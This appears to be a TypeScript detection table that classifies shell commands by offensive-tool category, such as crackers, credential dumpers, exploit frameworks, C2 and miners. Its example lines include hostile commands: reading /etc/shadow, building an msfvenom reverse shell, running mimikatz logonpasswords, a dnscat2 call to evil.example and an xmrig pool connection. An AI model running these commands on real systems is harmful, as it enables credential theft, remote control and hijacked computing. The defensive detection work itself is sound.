// data table
import type { Signature } from './signature.js'

/** Guessing the password behind a hash or a locked file, and making the lists for it (T1110.002). */
export const CRACKERS: readonly Signature[] = [
  {
    names: ['john', 'john-the-ripper', 'hashcat', 'hashcat64.bin', 'oclhashcat', 'cudahashcat'], class: 'cracker', stdin: 'ignored',
    flags: { '-w, --wordlist, --rules-file, --restore, --session, -r': { value: 'use', optional: true }, '-m, --hash-type, -a, --attack-mode, --format, --incremental, -i, --mask, -1, -2, -3, -4, --increment-min, --increment-max, --users, --salts, --fork, --node, -O, -d, --runtime, --pot': { value: 'value', optional: true }, '-o, --outfile, --potfile-path': 'write' }, operands: { first: 'read', rest: 'use' }, inert: ['--list', '-I', '--backend-info', '-V'],
    examples: [['john --wordlist=words.txt hashes.txt', ['execute process:cracker', 'read path:ordinary']], ['john /etc/shadow', ['read path:password-store']], ['john --version', []]],
  },
  {
    names: ['unshadow', 'zip2john', 'rar2john', 'ssh2john', 'ssh2john.py', 'gpg2john', 'keepass2john', 'pdf2john', 'pdf2john.pl', 'office2john', 'office2john.py', '7z2john', '7z2john.pl', 'bitlocker2john', 'bitcoin2john.py', 'ethereum2john.py', 'keychain2john.py', 'luks2john.py', 'pfx2john.py', 'putty2john', 'mozilla2john.py', 'hccap2john', 'wpapcap2john', 'dmg2john', 'keystore2john.py', 'krb2john.py', 'ansible2john.py', 'signal2john.py', 'telegram2john.py'], class: 'cracker', stdin: 'ignored', operands: { rest: 'read' }, stdout: 'content',
    examples: [['unshadow passwd.txt /etc/shadow', ['execute process:cracker', 'read path:password-store']], ['zip2john --help', []]],
  },
  {
    names: ['fcrackzip', 'pdfcrack', 'rarcrack', 'truecrack', 'bruteforce-luks', 'bruteforce-salted-openssl', 'bruteforce-wallet', 'ophcrack', 'ophcrack-cli', 'rcrack', 'rainbowcrack', 'rtgen', 'rcracki_mt', 'hashid', 'hash-identifier', 'name-that-hash', 'findmyhash', 'crackpkcs12', 'princeprocessor', 'pp64.bin', 'mp64', 'maskprocessor', 'statsprocessor', 'sp64', 'crunch', 'cewl', 'cewl.rb', 'cupp', 'cupp.py', 'rsmangler', 'username-anarchy', 'pipal', 'pydictor', 'pydictor.py', 'bkcrack', 'pkcrack', 'l0phtcrack', 'stegseek', 'stegcracker', 'chntpw'], class: 'cracker', stdin: 'ignored',
    flags: { '-o, --outfile, --output': 'write', '-p, -D, --dictionary, -w, --wordlist, -l, --length, -c, --charset, -m, -u': 'value' }, operands: { rest: 'use' },
    examples: [['fcrackzip -u -D -p words.txt backup.zip', ['execute process:cracker']], ['pdfcrack --version', []]],
  },
]

/** Attacks on wireless networks (T1557.004, T1040). */
export const WIRELESS_ATTACKS: readonly Signature[] = [
  {
    names: ['aircrack-ng', 'airmon-ng', 'airodump-ng', 'aireplay-ng', 'airbase-ng', 'airdecap-ng', 'airdecloak-ng', 'airdriver-ng', 'airolib-ng', 'airserv-ng', 'airtun-ng', 'airventriloquist-ng', 'besside-ng', 'buddy-ng', 'easside-ng', 'packetforge-ng', 'tkiptun-ng', 'wesside-ng', 'wpaclean', 'ivstools', 'wifite', 'wifite2', 'reaver', 'bully', 'pixiewps', 'wash', 'airgeddon', 'airgeddon.sh', 'fluxion', 'fluxion.sh', 'hostapd-wpe', 'hostapd-mana', 'eaphammer', 'wifiphisher', 'wifipumpkin3', 'mdk3', 'mdk4', 'cowpatty', 'genpmk', 'asleap', 'hcxdumptool', 'hcxpcapngtool', 'hcxpcaptool', 'hcxhashtool', 'fern-wifi-cracker', 'pyrit', 'btscanner', 'bluesnarfer', 'bluelog', 'redfang', 'spooftooph', 'ubertooth-btle', 'ubertooth-scan', 'ubertooth-rx', 'mfoc', 'mfcuk', 'proxmark3', 'giskismet', 'wifi-honey', 'roguehostapd'], class: 'wireless-attack', stdin: 'ignored',
    flags: { '-w, --write, -o': 'write', '-b, --bssid, -e, --essid, -c, --channel, -i, -a, -p, -l, -d, --band': 'value' }, inert: ['-h'],
    examples: [['airodump-ng -c 6 --bssid 00:11:22:33:44:55 wlan0mon', ['execute process:wireless-attack']], ['aircrack-ng --help', []]],
  },
]

/** Standing between other machines: answering for them, relaying their logins (T1557). */
export const POISONERS: readonly Signature[] = [
  // Of one host or port it ends connections, as a firewall's rule would; of a whole network it keeps others from theirs.
  {
    names: ['tcpkill', 'tcpnice'], class: 'poisoner', stdin: 'ignored', flags: { '-i, -n, -m': 'value' }, operands: { rest: 'value' }, modes: [{ when: { operand: '(?:^|\\s)(?:host|port)(?:\\s|$)', notOperand: '(?:^|\\s)(?:not|or|net|!)(?:\\s|$)' }, class: 'ordinary' }], effects: [{ does: 'configure', what: 'firewall', class: 'route', name: 'connections' }],
    examples: [['tcpkill -i eth0 host 203.0.113.9 and port 443', ['configure firewall:route', '!execute process:poisoner']], ['tcpkill -i eth0 net 10.0.0.0/8', ['execute process:poisoner']], ['tcpkill -i eth0', ['execute process:poisoner']], ['tcpkill not port 22', ['execute process:poisoner']]],
  },
  {
    names: ['responder', 'responder.py', 'inveigh', 'invoke-inveigh', 'mitm6', 'bettercap', 'ettercap', 'arpspoof', 'dnsspoof', 'macof', 'dsniff', 'urlsnarf', 'msgsnarf', 'mailsnarf', 'filesnarf', 'webspy', 'sshmitm', 'webmitm', 'sslstrip', 'sslstrip2', 'sslsplit', 'ntlmrelayx', 'ntlmrelayx.py', 'impacket-ntlmrelayx', 'smbrelayx.py', 'multirelay.py', 'krbrelayx', 'krbrelayx.py', 'evilginx', 'evilginx2', 'modlishka', 'muraena', 'dnschef', 'dnschef.py', 'yersinia', 'thc-ipv6', 'parasite6', 'fake_router6', 'fake_router26', 'flood_router6', 'fake_mld6', 'evil-ssdp', 'evil_ssdp.py', 'pretender', 'coercer', 'coercer.py', 'petitpotam.py', 'printerbug.py', 'dfscoerce.py', 'shadowcoerce.py', 'printspoofer', 'dementor.py', 'arptoxin', 'netsed', 'mitmf', 'xerosploit', 'seth.sh', 'pyrdp-mitm', 'rogue-jndi', 'farmer', 'hexinject', 'nbnspoof'], class: 'poisoner', stdin: 'ignored',
    examples: [['responder -I eth0 -wd', ['execute process:poisoner']], ['arpspoof -i eth0 -t 10.0.0.5 10.0.0.1', ['execute process:poisoner']], ['bettercap --version', []]],
  },
]

/** Frameworks that build, deliver or run exploits, and kits for phishing (T1587, T1588.005, T1566). */
export const EXPLOIT_FRAMEWORKS: readonly Signature[] = [
  {
    names: ['msfconsole', 'msfvenom', 'msfdb', 'msfd', 'msfrpc', 'msfrpcd', 'msfmc', 'msfupdate', 'msf-egghunter', 'msf-nasm_shell', 'msf-pattern_create', 'msf-pattern_offset', 'metasploit', 'metasploit-framework', 'armitage', 'setoolkit', 'se-toolkit', 'seautomate', 'beef', 'beef-xss', 'routersploit', 'rsf', 'rsf.py', 'autosploit', 'ysoserial', 'ysoserial.jar', 'ysoserial-all.jar', 'ysoserial.exe', 'marshalsec.jar', 'jndi-injection-exploit.jar', 'phpggc', 'veil-evasion', 'shellter', 'shellnoob', 'scarecrow', 'nimcrypt2', 'thefatrat', 'fatrat', 'msfpc', 'venom.sh', 'backdoor-factory', 'backdoor-factory.py', 'macro_pack', 'macro_pack.exe', 'evilclippy', 'gophish', 'king-phisher', 'zphisher', 'zphisher.sh', 'shellphish', 'shellphish.sh', 'blackeye.sh', 'hiddeneye', 'socialfish', 'advphishing', 'maskphish', 'eternalblue_exploit7.py', 'eternalblue_exploit8.py', 'zerologon.py', 'cve-2020-1472-exploit.py', 'nopac.py', 'sam-the-admin.py', 'printnightmare.py', 'pwnkit', 'dirtypipe', 'dirtypipez', 'dirtycow', 'dirtyc0w', 'cowroot', 'gameoverlay.sh', 'looney-tunables.py', 'juicypotato', 'sweetpotato', 'roguepotato', 'godpotato', 'rottenpotato', 'akagi64', 'akagi32', 'uacme', 'unicorn.py', 'drozer', 'exegol'], class: 'exploit-framework', grammar: 'key=value',
    flags: { '-x, --execute-command, -q': 'value', '-r, --resource': 'use', '-o, --out': 'write', '-p, --payload, -f, --format, -e, --encoder, -i, --iterations, -b, --bad-chars, -a, --arch, --platform, -l, --list, -n, -s, -k, -v, --var-name': 'value', 'lhost, LHOST': 'value', 'rhosts, RHOSTS, rhost, RHOST': 'target' },
    examples: [['msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.1 LPORT=4444 -f elf -o out.elf', ['execute process:exploit-framework', 'write path:ordinary']], ['msfconsole -q -x "use exploit/multi/handler; run"', ['execute process:exploit-framework']], ['msfconsole --version', []]],
  },
]

/** Servers and implants that steer machines from afar (T1071, T1219). */
export const COMMAND_AND_CONTROL: readonly Signature[] = [
  {
    names: ['empire', 'powershell-empire', 'starkiller', 'covenant', 'cobaltstrike', 'cobaltstrike.sh', 'teamserver', 'agscript', 'c2lint', 'sliver', 'sliver-server', 'sliver-client', 'sliver-implant', 'mythic', 'mythic-cli', 'havoc', 'havoc-client', 'havoc-teamserver', 'pupy', 'pupysh', 'pupysh.py', 'pupygen', 'pupygen.py', 'merlin', 'merlinserver', 'merlinagent', 'poshc2', 'posh-server', 'posh-config', 'posh-project', 'villain.py', 'koadic', 'silenttrinity', 'teamserver.py', 'deimosc2', 'factionc2', 'nimplant', 'brute-ratel', 'brc4', 'weevely', 'weevely.py', 'weevely3', 'webacoo', 'webacoo.pl', 'dnscat', 'dnscat2', 'dnscat2-server', 'dnscat2-client', 'dnscat2.rb', 'trevorc2', 'trevorc2_server.py', 'trevorc2_client.py', 'godoh', 'chashell', 'gs-netcat', 'gsocket', 'gs-mount', 'emp3r0r', 'byob', 'sharpc2', 'badrats', 'wiregost', 'shad0w', 'hak5c2', 'c2concealer', 'sandcat', 's4ndc4t', 'quasarrat', 'asyncrat', 'njrat', 'remcos', 'darkcomet', 'netwire', 'gh0st', 'poisonivy', 'nanocore', 'evilosx', 'meterpreter', 'mettle', 'pwnagotchi', 'tinyshell', 'diamorphine', 'jynx2', 'azazel'], class: 'c2', stdin: 'ignored',
    examples: [['sliver-server daemon', ['execute process:c2']], ['dnscat2 --dns server=evil.example', ['execute process:c2']], ['empire --help', []]],
  },
]

/** Scripts of the Impacket collection that log in, execute or ask on other hosts (T1021, T1550, T1558). */
const IMPACKET = ['psexec', 'wmiexec', 'smbexec', 'atexec', 'dcomexec', 'getuserspns', 'getnpusers', 'getadusers', 'getadcomputers', 'gettgt', 'getst', 'getpac', 'ticketer', 'ticketconverter', 'describeticket', 'lookupsid', 'samrdump', 'rbcd', 'dacledit', 'owneredit', 'addcomputer', 'finddelegation', 'goldenpac', 'raisechild', 'karmasmb', 'mssqlclient', 'smbpasswd', 'netview', 'wmiquery', 'wmipersist', 'keylistattack', 'getlapspassword', 'getgpppassword', 'badsuccessor', 'changepasswd', 'exchanger', 'tstool', 'kintercept', 'attrib-ldap', 'machine_role', 'regsecrets']
const DUMPERS = ['secretsdump', 'mimikatz', 'dpapi', 'esentutl', 'ntfs-read', 'registry-read']

/** Taking credentials out of memory, databases and stores (T1003, T1555). */
export const CREDENTIAL_DUMPERS: readonly Signature[] = [
  {
    names: [...DUMPERS.map((n) => `impacket-${n}`), 'secretsdump.py', 'mimikatz.py', 'dpapi.py', 'secretsdump', 'gosecretsdump', 'regsecrets.py', 'mimikatz', 'mimikatz.exe', 'mimilib', 'mimidrv', 'invoke-mimikatz', 'invoke-mimikatz.ps1', 'pypykatz', 'pypykatz.py', 'lazagne', 'lazagne.py', 'mimipenguin', 'mimipenguin.sh', 'mimipenguin.py', 'mimipy', 'mimipy.py', 'linikatz', 'linikatz.sh', 'swap_digger', 'swap_digger.sh', '3snake', 'lsassy', 'spraykatz', 'nanodump', 'handlekatz', 'outflank-dumpert', 'sharpdump', 'safetykatz', 'sharpkatz', 'bettersafetykatz', 'lsadump', 'pwdump', 'pwdump7', 'fgdump', 'gsecdump', 'cachedump', 'quarkspwdump', 'samdump2', 'creddump7', 'pwdump.py', 'bkhive', 'wce', 'keethief', 'keefarce', 'sessiongopher', 'sessiongopher.ps1', 'sharpchrome', 'sharpdpapi', 'sharpchromium', 'sharpweb', 'sharpcloud', 'hackbrowserdata', 'hack-browser-data', 'firefox_decrypt', 'firefox_decrypt.py', 'firepwd', 'firepwd.py', 'chromepass', 'chrome_decrypt.py', 'webbrowserpassview', 'mailpv', 'netpass', 'donpapi', 'donpapi.py', 'dploot', 'masky', 'chainbreaker', 'chainbreaker.py', 'keychaindump', 'keytabextract', 'keytabextract.py', 'tickey', 'physmem2profit', 'ppldump', 'lsass-shtinkering', 'ntdsxtract', 'dsusers.py', 'ntdsdotsqlite', 'laps-toolkit', 'gmsadumper.py', 'gmsadumper', 'pygpoabuse', 'memfetch', 'cookie_crimes', 'hekatomb', 'hekatomb.py'], class: 'credential-dumper', stdin: 'ignored',
    examples: [['mimikatz "privilege::debug" "sekurlsa::logonpasswords" exit', ['execute process:credential-dumper']], ['impacket-secretsdump corp/adm@10.0.0.5', ['execute process:credential-dumper']], ['./lazagne all', ['execute process:credential-dumper']], ['mimikatz --help', []]],
  },
]

/** Moving through a Windows network or a directory with stolen access, and mapping it (T1021, T1087.002, T1558). */
export const POST_EXPLOITATION: readonly Signature[] = [
  {
    names: [
      ...IMPACKET.map((n) => `impacket-${n}`), ...IMPACKET.filter((n) => n !== 'changepasswd' && n !== 'exchanger' && n !== 'regsecrets').map((n) => `${n}.py`),
      'crackmapexec', 'crackmapexec.py', 'cme', 'cmedb', 'netexec', 'nxc', 'nxcdb', 'evil-winrm', 'evil-winrm.rb', 'evil-winrm-py', 'bloodhound', 'bloodhound-python', 'bloodhound.py', 'bloodhound-ce', 'bloodhound-ce-python', 'sharphound', 'sharphound.ps1', 'azurehound', 'rusthound', 'rusthound-ce', 'rubeus', 'certipy', 'certipy-ad', 'certipy.py', 'certify', 'kerberoast', 'tgsrepcrack.py', 'bloodyad', 'bloodyad.py', 'pywhisker', 'pywhisker.py', 'targetedkerberoast.py', 'seatbelt', 'sharpup', 'sharpview', 'sharpsploit', 'sharpwmi', 'sharpexec', 'sharpmove', 'sharprdp', 'sharpsccm', 'sccmhunter', 'sccmhunter.py', 'powerview.ps1', 'powersploit', 'powercat.ps1', 'nishang', 'krbrelay', 'krbrelayup', 'pywerview', 'ldeep', 'ldapnomnom', 'linwinpwn', 'linwinpwn.sh', 'adpeas', 'redsnarf', 'smbexec.rb', 'winexe', 'pth-winexe', 'pth-smbclient', 'pth-rpcclient', 'pth-net', 'pth-wmic', 'pth-curl', 'regeorg', 'neoreg.py', 'neoreg', 'regeorgsocksproxy.py', 'tunna', 'pivotnacci', 'abptts', 'deathstar', 'infection_monkey', 'monkey-island', 'atomic-operator', 'sshsnake', 'ssh-snake.sh', 'bash_snake.sh', 'sshspray', 'ssh_spray.py', 'gtfoblookup.py'],
    class: 'post-exploitation', stdin: 'ignored',
    flags: { '-i, --ip, -dc-ip, --dc-ip, -target-ip, -ns': 'host', '-u, --user, --username, -p, --password, -d, --domain, -H, --hash, --hashes, -x, -X, -c, -k, -M, --module, -o, -t, --local-auth, -just-dc-user, -hashes, -aesKey': 'value', '--put-file, --get-file': 'value' },
    subcommands: { 'smb|ldap|winrm|mssql|ssh|ftp|rdp|wmi|vnc|nfs': { operands: { first: 'target' } } },
    examples: [['crackmapexec smb 10.0.0.0/24 -u admin -p secret', ['execute process:post-exploitation', 'scan host:private+range']], ['evil-winrm -i 10.0.0.5 -u adm -p secret', ['execute process:post-exploitation']], ['psexec.py corp/adm@10.0.0.5', ['execute process:post-exploitation']], ['nxc --version', []]],
  },
]

/** Looking for a way to become root or administrator on this machine (T1082, T1068). */
export const PRIVILEGE_ENUMERATORS: readonly Signature[] = [
  {
    names: ['linpeas', 'linpeas.sh', 'linpeas_fat.sh', 'linpeas_small.sh', 'winpeas', 'winpeas.bat', 'winpeas.exe', 'winpeas.ps1', 'winpeasany', 'winpeasx64', 'winpeasx86', 'winpeasany_ofs', 'winpeasx64_ofs', 'linenum', 'linenum.sh', 'lse.sh', 'lse', 'linux-smart-enumeration', 'pspy', 'pspy32', 'pspy64', 'pspy32s', 'pspy64s', 'linux-exploit-suggester', 'linux-exploit-suggester.sh', 'linux-exploit-suggester-2.pl', 'les.sh', 'les2.pl', 'linuxprivchecker', 'linuxprivchecker.py', 'linuxprivchecker.sh', 'unix-privesc-check', 'upc.sh', 'beroot', 'beroot.py', 'beroot.exe', 'gtfonow', 'gtfonow.py', 'sudo_killer', 'sudo_killer.sh', 'sudokiller.sh', 'traitor', 'privesccheck.ps1', 'powerup.ps1', 'wes.py', 'wesng', 'windows-exploit-suggester', 'windows-exploit-suggester.py', 'sherlock.ps1', 'watson.exe', 'jaws-enum.ps1', 'suid3num.py', 'suid3num', 'autosuid.sh', 'bashark', 'bashark.sh', 'linux-soft-exploit-suggester', 'enumy', 'swiftbelt', 'machound', 'kernelpop', 'kernelpop.py', 'privilege-escalation-awesome-scripts-suite'], class: 'privilege-enumerator',
    examples: [['./linpeas.sh -a', ['execute process:privilege-enumerator']], ['/tmp/pspy64 -pf', ['execute process:privilege-enumerator']], ['linpeas.sh --help', []]],
  },
]

/** Attacks on clouds, clusters and containers from inside or outside (T1580, T1611, T1613). */
export const CLOUD_ATTACKS: readonly Signature[] = [
  {
    names: ['pacu', 'pacu.py', 'cloudgoat', 'cloudgoat.py', 'enumerate-iam', 'enumerate-iam.py', 'cloudfox', 'cloudmapper', 'cloudmapper.py', 'weirdaal.py', 'nimbostratus', 'aws_consoler', 'aws-escalate.py', 'aws_escalate.py', 'pmapper', 'principalmapper', 'skyark', 's3-inspector', 'bucket_finder', 'bucket_finder.rb', 'cloudbrute', 'gcpbucketbrute', 'gcpbucketbrute.py', 'gcp_scanner', 'gcploit', 'gcphound', 'microburst', 'roadrecon', 'roadtx', 'stormspotter', 'powerzure', 'aadinternals', 'graphrunner', 'tokentactics', 'teamfiltration', 'azucar', 'monkey365', 'o365recon', 'stratus', 'leonidas', 'peirates', 'kube-hunter', 'kube-hunter.py', 'kubeletctl', 'kubesploit', 'kubestriker', 'kdigger', 'red-kube', 'mkat', 'kubehound', 'deepce', 'deepce.sh', 'amicontained', 'botb', 'break-out-the-box', 'dockerscan', 'dufflebag'], class: 'cloud-attack', stdin: 'ignored',
    flags: { '--remote, -s, --server, -i, --cidr, -t, --target': 'target' }, subcommands: { 'list|status|show|version': { class: 'ordinary' } },
    examples: [['kube-hunter --remote 10.0.0.10', ['execute process:cloud-attack', 'scan host:private']], ['./deepce.sh', ['execute process:cloud-attack']], ['stratus detonate aws.defense-evasion.cloudtrail-stop', ['execute process:cloud-attack']], ['peirates --help', []]],
  },
]

/** Audits of the own account, by whoever has its credentials: they list all of it and change nothing. */
export const CLOUD_AUDITS: readonly Signature[] = [
  { names: ['prowler', 'scout', 'scoutsuite', 'scout.py', 'cloudsploit', 'cloudsploitscan', 'kube-bench', 'kubeaudit', 'steampipe', 'cloudquery', 'lambdaguard', 'parliament', 'cloudsplaining', 'policy_sentry', 'trufflehog', 'gitleaks', 'detect-secrets', 'ggshield', 'git-secrets', 'noseyparker', 'talisman', 'secretlint', 'whispers', 'tartufo', 'kingfisher', 'betterleaks'], stdin: 'ignored', examples: [['prowler aws --profile audit', []], ['gitleaks detect --source .', []], ['trufflehog filesystem .', []]] },
]

/** Making coins with the machine of somebody else (T1496.001). */
export const MINERS: readonly Signature[] = [
  {
    names: ['xmrig', 'xmrig-notls', 'xmrig-cuda', 'xmr-stak', 'xmr-stak-rx', 'xmrigdaemon', 'xmrigminer', 'xmrigcc', 'xmrig-proxy', 'xmr-node-proxy', 'minerd', 'cpuminer', 'cpuminer-multi', 'cpuminer-opt', 'ccminer', 'cgminer', 'bfgminer', 'sgminer', 'ethminer', 'ethdcrminer64', 'phoenixminer', 't-rex', 'nbminer', 'lolminer', 'gminer', 'nanominer', 'teamredminer', 'srbminer', 'srbminer-multi', 'bzminer', 'onezerominer', 'wildrig', 'wildrig-multi', 'nheqminer', 'minergate', 'minergate-cli', 'kdevtmpfsi', 'kinsing', 'kawpowminer', 'progpowminer', 'nicehashminer', 'nicehashquickminer', 'astrominer', 'verthashminer', 'honeyminer', 'cudominercli'], class: 'miner', stdin: 'ignored',
    flags: { '-o, --url, --pool, -P, --server': 'host', '-u, --user, --userpass, -p, --pass, -a, --algo, --coin, -t, --threads, --donate-level, --rig-id, -r, -R, --cpu-priority, --cpu-max-threads-hint': 'value', '-c, --config': 'use', '-l, --log-file': 'write' }, inert: ['-h', '-V'],
    examples: [['./xmrig -o pool.supportxmr.com:3333 -u wallet -p x', ['execute process:miner', 'connect host']], ['nohup /opt/xmrig --help', []]],
  },
]
